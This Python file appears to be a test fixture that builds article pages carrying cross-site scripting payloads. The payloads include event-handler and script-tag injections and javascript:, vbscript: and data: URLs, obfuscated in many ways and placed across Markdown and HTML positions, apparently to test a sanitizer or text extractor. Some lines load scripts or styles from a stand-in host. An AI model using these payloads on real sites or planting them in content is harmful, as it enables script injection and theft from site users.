"""Pages that try to get a script through the Markdown of their main text: elements x encodings x positions."""

import html
from collections.abc import Iterator
from typing import Final, NamedTuple

WORDS: Final = "It rained all day in Harwick, and nobody minded much, for there was enough to read in the house. "
_HANDLERS: Final = ("onerror=alert(1)", "onload='alert(1)'", 'onfocus="alert(1)" autofocus', "ontoggle=alert`1`")
_ELEMENTS: Final = (
    "<img src=x {}>",
    "<svg {}>",
    "<svg/{}>",
    "<details open {}>",
    "<input {}>",
    "<x {}>x</x>",
    "<body {}>",
    "<video {}><source {}></video>",
    "<IMG SRC=x\t{}>",
    "<img src=x\n{}>",
    "<!--><img src=x {}>-->",
    "<![CDATA[<img src=x {}>]]>",
    "<?x <img src=x {}>?>",
    "</p><img src=x {}>",
    "<img src=x {}",
    "<div>\n<img src=x {}>\n</div>",
)
_WHOLE: Final = (
    "<script>alert(1)</script>",
    "<script src=//e.org/x.js></script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<object data=javascript:alert(1)></object>",
    "<base href=javascript:alert(1)//>",
    "<style>@import '//e.org/x.css';</style>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<javascript:alert(1)>",
    "<JaVaScRiPt:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    '[x](x "t" onclick=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "*[x]: <img src=x onerror=alert(1)>",
    "[^1]: <img src=x onerror=alert(1)>",
    "x {: onclick=alert(1) }",
    "x { onclick=alert(1) }",
    "{: onclick=alert(1) }",
    "`x`{: onclick=alert(1) }",
)
_BEFORE: Final = (
    "",
    "\\",
    "\\\\",
    "\\\\\\",
    "`",
    "``",
    "\\`",
    "http://e.org/",
    "http://e.org/\\",
    "www.e.org/",
    "a@e.org",
    "](x)",
    "`](x)",
    "x](x)`",
    "|",
    "`|",
    "$",
    "\x02",
    "*_~",
    "<a@e.org>",
    "\n\n    ",
    "~~~\n",
)
"""What the text of an element follows."""
_POSITIONS: Final = {
    "text": "<p>It rained {} all day.</p>",
    "line": "<p>{}</p>",
    "lines": "<p>It rained<br>{}<br>all day.</p>",
    "bold": "<p>It rained <b>{}</b> <i>all</i> day.</p>",
    "link text": "<p>It <a href='http://e.org/'>rained {} so</a> much.</p>",
    "link code": "<p>It <a href='http://e.org/'>so <code>{}</code></a> much.</p>",
    "code": "<p>It rained <code>{}</code> all day.</p>",
    "codes": "<p>a` \\<code>{}</code>`b <code>`</code> <code>{}</code></p>",
    "key": "<p>It rained <kbd>{}</kbd> all <sub>{}</sub> day.</p>",
    "block of code": "<pre>{}</pre>",
    "heading": "<h2>{}</h2><p>It rained all day.</p>",
    "item": "<ul><li>{}<li>It <code>{}</code> rained.</ul>",
    "code in lists": "<ul><li>a<ol><li>b<ul><li>c<ol><li>d<ul><li>e<ul><li>f<ul><li>g<ul><li>h<pre>{}</pre>"
    "<li><code>{}</code>i</ul></ul></ul></ul></ol></ul></ol></ul>",
    "code in quotes": "<blockquote>a<blockquote>b<pre>{}</pre><p><code>{}</code></blockquote></blockquote>",
    "quote": "<blockquote><p>{}</p></blockquote>",
    "cell": "<table><tr><th>a<th>b<tr><td>{}<td>d<tr><td>e<td>{}</table>",
    "code in a cell": "<table><tr><th>a<th>b<tr><td><code>{}</code><td>d<tr><td>e<td><code>x|{}</code></table>",
    "caption": "<table><caption>{}</caption><tr><th>a<th>b<tr><td>c<td>d</table>",
    "footnote": "<p>It rained.<sup><a href='#n1' id=r1>1</a></sup></p><ol><li id=n1>{} <a href='#r1'>↩</a></ol>",
    "term": "<dl><dt>{}<dd>It rained {} all day.</dl>",
    "formula": "<p>MathJax \\(x {} y\\) and \\[{}\\]</p>",
}
_ATTRIBUTES: Final = {
    "alt": '<p>It <img src="http://e.org/i.png" alt="{}"> rained.</p>',
    "figure": '<figure><img src="http://e.org/i.png" alt="{}"><figcaption>It rained.</figcaption></figure>',
    "image in a link": '<p>It <a href="http://e.org/"><img src="http://e.org/i.png" alt="{}"></a> rained.</p>',
    "title": '<p>It <a href="http://e.org/" title="{}">rained</a>.</p>',
    "embed": '<iframe src="http://e.org/embed" title="{}"></iframe>',
    "href": '<p>It <a href="{}">rained</a> <a href="http://e.org/{}">so</a> <a href="/?x={}">much</a>.</p>',
    "src": '<p>It <img src="{}" alt="a"> <img src="http://e.org/{}" alt="b"> rained.</p>',
    "language": '<pre><code class="language-{}" data-lang="{}">x = 1</code></pre>',
}
_SCHEMES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript\t:alert(1)",
    "javascript\x00:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&Tab;:alert(1)",
    "java&Tab;script&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript&#0000058alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6a&#x61vascript:alert(1)",
    "&amp;#106;avascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript%253Aalert(1)",
    "%6Aavascript:alert(1)",
    "%01javascript:alert(1)",
    "java%0Ascript:alert(1)",
    "javascript\\:alert(1)",
    "\\javascript:alert(1)",
    "javascript://e.org/%0Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data&colon;text/html,x",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "\u200bjavascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "livescript:alert(1)",
    'x" onclick="alert(1)',
    "x' onclick='alert(1)",
    "x)<img src=x onerror=alert(1)>",
    'x "t" onclick=alert(1)',
    "x> <img src=x onerror=alert(1)>",
    "x\\)<img src=x onerror=alert(1)>",
    "x`<img src=x onerror=alert(1)>`",
)
_TARGETS: Final = {
    "link": '<p>It <a href="{}">rained</a> all day.</p>',
    "link with code": '<p>It <a href="{}"><code>rained</code></a> all day.</p>',
    "image": '<p>It <img src="{}" alt="x"> rained all day.</p>',
    "linked image": '<p>It <a href="{}"><img src="http://e.org/i.png" alt="x"></a> rained.</p>',
    "lazy image": '<p>It <img data-src="{}" alt="x"> rained all day.</p>',
    "set": '<p>It <img srcset="{} 2x" alt="x"> rained all day.</p>',
    "frame": '<iframe src="{}" title="x"></iframe>',
    "video": '<video src="{}" title="x"></video>',
    "cell": '<table><tr><th>a<th>b<tr><td><a href="{}">c</a><td>d</table>',
    "base": '<base href="{}"><p>It <a href="x">rained</a> all <a href="//e.org">day</a>.</p>',
}


class Attack(NamedTuple):
    """A page with a payload at some position of its main text."""

    position: str
    payload: str
    page: str

    @property
    def has_fence(self) -> bool:
        """Whether the payload is in a block of code."""
        return "<pre>" in self.page


def attacks() -> Iterator[Attack]:
    """All pages, some thousands, always the same and in the same order."""
    texts = [form.replace("{}", handler) for form in _ELEMENTS for handler in _HANDLERS]
    texts += _WHOLE
    for number, text in enumerate(texts):
        for place, (position, form) in enumerate({**_POSITIONS, **_ATTRIBUTES}.items()):
            # Each text has each position twice, and each beginning with most positions.
            for turn in (0, 1):
                before = _BEFORE[(number + 7 * place + 5 * turn) % len(_BEFORE)]
                encode = _ENCODINGS[(number + place + turn) % len(_ENCODINGS)]
                yield _attack(position, before + text, form.replace("{}", encode(before + text)))
    for address in _SCHEMES:
        for position, form in _TARGETS.items():
            for encode in (_quoted, html.escape):
                yield _attack(position, address, form.replace("{}", encode(address)))


def _attack(position: str, payload: str, markup: str) -> Attack:
    page = f"<body><article><p>{WORDS * 3}</p>{markup}<p>{WORDS * 3}</p></article></body>"
    return Attack(position, payload, page)


def _quoted(text: str) -> str:
    """A text as an attribute's value in which the references of the text count."""
    return text.replace('"', "&quot;")


def _references(text: str) -> str:
    """Each sign as a numeric reference."""
    return "".join(character if character.isalnum() else f"&#x{ord(character):x};" for character in text)


def _twice(text: str) -> str:
    """A text that shows references for its signs."""
    return html.escape(html.escape(text))


_ENCODINGS: Final = (html.escape, _references, html.escape, _twice)
